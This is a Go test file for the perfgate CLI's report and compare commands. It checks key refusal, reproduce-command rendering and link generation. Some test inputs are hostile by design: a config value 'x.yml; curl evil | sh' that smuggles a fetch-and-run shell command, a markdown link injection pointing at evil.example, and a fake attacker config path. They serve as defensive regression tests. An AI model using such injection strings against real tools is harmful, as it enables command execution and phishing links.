package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// keyCases is the fixture the Action's tests share (__tests__/report-keys.test.ts).
var keyCases = filepath.Join("..", "..", "internal", "report", "testdata", "keys")

// TestReportRefusesKeysReadersDisagreeOn: `perfgate report` and `perfgate
// compare` refuse a report.json that the Action would read differently,
// naming the key; the accepted cases render.
func TestReportRefusesKeysReadersDisagreeOn(t *testing.T) {
	data, err := os.ReadFile(filepath.Join(keyCases, "cases.json"))
	if err != nil {
		t.Fatal(err)
	}
	var cases struct {
		Accepted []string
		Refused  []struct{ File, Key string }
	}
	if err := json.Unmarshal(data, &cases); err != nil {
		t.Fatal(err)
	}
	for _, name := range cases.Accepted {
		var stdout, stderr bytes.Buffer
		if code := run(context.Background(), []string{"report", "--in", filepath.Join(keyCases, name)}, &stdout, &stderr); code != 0 {
			t.Errorf("report %s: exit %d: %s", name, code, stderr.String())
		}
	}
	for _, c := range cases.Refused {
		in := filepath.Join(keyCases, c.File)
		var stdout, stderr bytes.Buffer
		code := run(context.Background(), []string{"report", "--in", in}, &stdout, &stderr)
		if code != 2 || !strings.Contains(stderr.String(), strconv.Quote(c.Key)) || stdout.Len() > 0 {
			t.Errorf("report %s: exit %d, stderr %q, %d bytes rendered; want exit 2 naming the key %q and nothing rendered", c.File, code, stderr.String(), stdout.Len(), c.Key)
		}

		out := t.TempDir()
		copyFile(t, in, filepath.Join(out, "report.json"))
		stdout.Reset()
		stderr.Reset()
		code = run(context.Background(), []string{"compare", "--out", out}, &stdout, &stderr)
		if code != 2 || !strings.Contains(stderr.String(), strconv.Quote(c.Key)) {
			t.Errorf("compare %s: exit %d, stderr %q; want exit 2 naming the key %q", c.File, code, stderr.String(), c.Key)
		}
	}
}

// TestReportReproduceFlags: with --reproduce-config or --reproduce-head
// (the Action's fork-safe mode) the comment's command comes from them and
// shows none of the report's own values.
func TestReportReproduceFlags(t *testing.T) {
	in := filepath.Join(t.TempDir(), "report.json")
	hostile := `{"schema":1,"verdict":"pass","seed":7,"command":["perfgate","gate","--config","attacker/perfgate.yml"],"build":{"base":{"revision":"badbadbadbad"}}}`
	if err := os.WriteFile(in, []byte(hostile), 0o644); err != nil {
		t.Fatal(err)
	}
	head := strings.Repeat("c", 40)
	for _, tc := range []struct {
		args      []string
		want      string
		forbidden []string
	}{
		{nil, "\nsudo env \"PATH=$PATH\" perfgate gate --config attacker/perfgate.yml --base badbadbadbad --head . --out results/ --seed 7\n", nil},
		{[]string{"--reproduce-config", "ci/perfgate.yml", "--reproduce-head", head},
			"\ngit checkout " + head + "\nperfgate gate --config ci/perfgate.yml --base &lt;base&gt; --head . --out results/ --seed 7   # unconfined", []string{"attacker", "badbad"}},
		{[]string{"--reproduce-head", head}, "--config &lt;config&gt; --base &lt;base&gt;", []string{"attacker", "badbad"}},
		{[]string{"--reproduce-config", "x.yml; curl evil | sh"}, "\nperfgate gate --config &lt;config&gt; --base &lt;base&gt;", []string{"curl", "attacker"}},
	} {
		var stdout, stderr bytes.Buffer
		if code := run(context.Background(), append([]string{"report", "--in", in}, tc.args...), &stdout, &stderr); code != 0 {
			t.Fatalf("report %v: exit %d: %s", tc.args, code, stderr.String())
		}
		_, reproduce, _ := strings.Cut(stdout.String(), "<summary>Reproduce locally</summary>")
		if !strings.Contains(reproduce, tc.want) {
			t.Errorf("report %v: lacks %q:\n%s", tc.args, tc.want, reproduce)
		}
		for _, bad := range tc.forbidden {
			if strings.Contains(reproduce, bad) {
				t.Errorf("report %v: the command shows %q:\n%s", tc.args, bad, reproduce)
			}
		}
	}
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	data, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestReportLinkFlags: the Action passes where the gate ran; the comment
// links the run, report.html, the artifact and the compared commits, and says who
// accepted a regression. A copy from elsewhere (--reproduce-*) lends no
// commit of its own to the links.
func TestReportLinkFlags(t *testing.T) {
	in := filepath.Join(t.TempDir(), "report.json")
	base, head := strings.Repeat("a", 40), strings.Repeat("b", 40)
	rep := `{"schema":1,"verdict":"regression","seed":7,"build":{"base":{"revision":"` + base + `"},"head":{"revision":"` + head + `"}}}`
	if err := os.WriteFile(in, []byte(rep), 0o644); err != nil {
		t.Fatal(err)
	}
	links := []string{"--repository", "acme/search", "--run-id", "42", "--artifact-id", "7", "--artifact-name", "perfgate-results"}
	for _, tc := range []struct {
		args      []string
		code      int
		want      []string
		forbidden []string
	}{
		{links, 0, []string{"(https://github.com/acme/search/actions/runs/42)", "(https://github.com/acme/search/actions/runs/42/artifacts/7)", "/compare/" + base + "..." + head, "gh run download 42 -R acme/search -n perfgate-results"}, []string{"accepted"}},
		{append(links, "--reproduce-config", "perfgate.yml"), 0, []string{"/artifacts/7)"}, []string{"/compare/"}},
		// report.html, uploaded unzipped, opens from the comment, before the zipped results.
		{append(links, "--report-artifact-id", "8"), 0, []string{"[report.html](https://github.com/acme/search/actions/runs/42/artifacts/8) · [results artifact](https://github.com/acme/search/actions/runs/42/artifacts/7)", "every profile is in the results artifact"}, []string{"report.html and every profile"}},
		{append(links, "--report-artifact-id", "8)](https://evil.example"), 0, []string{"report.html and every profile are in the artifact"}, []string{"evil.example", "[report.html]"}},
		{append(links, "--accepted-label", "perfgate:accept", "--accepted-by", "octocat"), 0, []string{"### ✅ perfgate: regression accepted", "added by `octocat`"}, nil},
		{append(links, "--accepted-label", "perfgate:accept"), 2, nil, nil},
		{append(links, "--accept-label", "ok-slower", "--accepted-label", "perfgate:accept", "--accepted-by", "octocat"), 2, nil, nil},
	} {
		var stdout, stderr bytes.Buffer
		if code := run(context.Background(), append([]string{"report", "--in", in}, tc.args...), &stdout, &stderr); code != tc.code {
			t.Fatalf("report %v: exit %d, want %d: %s", tc.args, code, tc.code, stderr.String())
		}
		for _, want := range tc.want {
			if !strings.Contains(stdout.String(), want) {
				t.Errorf("report %v: lacks %q:\n%s", tc.args, want, stdout.String())
			}
		}
		for _, bad := range tc.forbidden {
			if strings.Contains(stdout.String(), bad) {
				t.Errorf("report %v: shows %q", tc.args, bad)
			}
		}
	}
}
